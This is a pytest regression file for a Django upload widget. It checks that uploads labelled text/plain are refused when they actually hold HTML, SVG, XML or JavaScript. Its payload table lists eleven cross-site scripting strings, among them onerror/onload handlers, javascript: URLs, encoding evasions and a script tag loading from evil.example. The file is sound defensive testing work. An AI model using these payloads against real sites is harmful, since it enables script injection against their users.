"""The attacks of issue 13, finding 6: active content that passed the sniffer as plain text.

Each payload goes through ``check_uploaded_file`` (the checks every upload gets, by token or by
multipart) for a field that accepts anything and for one that accepts text and images: both
refuse it. The first eight passed before as ``text/plain``; the last three were caught already.
"""

from __future__ import annotations

from typing import Any

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile

from django_dlwidget.forms import ResumableFormField
from django_dlwidget.uploads.validation import UploadRejected, check_uploaded_file
from tests.forms.conftest import MakeUpload

ACTIVE = {"text/html", "image/svg+xml", "application/xml", "text/javascript"}
PROSE = b"Minutes of the meeting. Nothing happened; a < b and c > d. " * 160  # 9.4 KB

PAYLOADS = {
    "img onerror": (b"<img src=x onerror=alert(document.domain)>", "cat.txt"),
    "svg/onload": (b"<svg/onload=alert(document.domain)>", "drawing.svg"),
    "script/src": (b"<script/src=//evil.example/x.js></script>", "page.html"),
    "iframe/src": (b'<iframe/src="javascript:alert(1)"></iframe>', "frame.html"),
    "markup after 9,000 bytes": (PROSE + b"<script>alert(1)</script>", "notes.html"),
    "UTF-16 script": ("\ufeff<script>alert(1)</script>".encode("utf-16-le"), "u.html"),
    "a .js body": (b'fetch("/api/").then(r => r.text()).then(t => alert(t))\n', "app.js"),
    "<style> and javascript:": (
        b'<style>body{background:url("javascript:alert(1)")}</style>',
        "theme.css",
    ),
    # Caught before the fix too.
    "doctype and script": (b"<!DOCTYPE html><html><script>alert(1)</script>", "a.html"),
    "svg onload": (b'<svg onload="alert(1)"></svg>', "b.svg"),
    "xml with svg": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
        "c.xml",
    ),
}


@pytest.mark.parametrize("payload", list(PAYLOADS))
@pytest.mark.parametrize("accept", [(), ("text/plain", ".txt", ".csv", "image/*")])
def test_each_payload_is_refused_by_a_field_that_did_not_name_it(
    payload: str, accept: tuple[str, ...]
) -> None:
    data, name = PAYLOADS[payload]
    file = SimpleUploadedFile(name, data, "text/plain")
    with pytest.raises(UploadRejected) as rejection:
        check_uploaded_file(file, max_size=None, accept=accept)
    assert rejection.value.code == "wrong_type"
    assert rejection.value.params["type"] in ACTIVE


class AnyFileForm(forms.Form):
    file = ResumableFormField()


@pytest.mark.django_db
@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_each_payload_is_refused_when_it_comes_by_token(
    as_user: Any, make_upload: MakeUpload, payload: str
) -> None:
    """The same through tus: the data is read back from the upload store, head, tail and the
    text between."""
    data, name = PAYLOADS[payload]
    _, token = make_upload(data, name)
    form = AnyFileForm(data={"file-token": token})
    assert not form.is_valid()
    [error] = form.errors.as_data()["file"]
    assert error.code == "wrong_type"
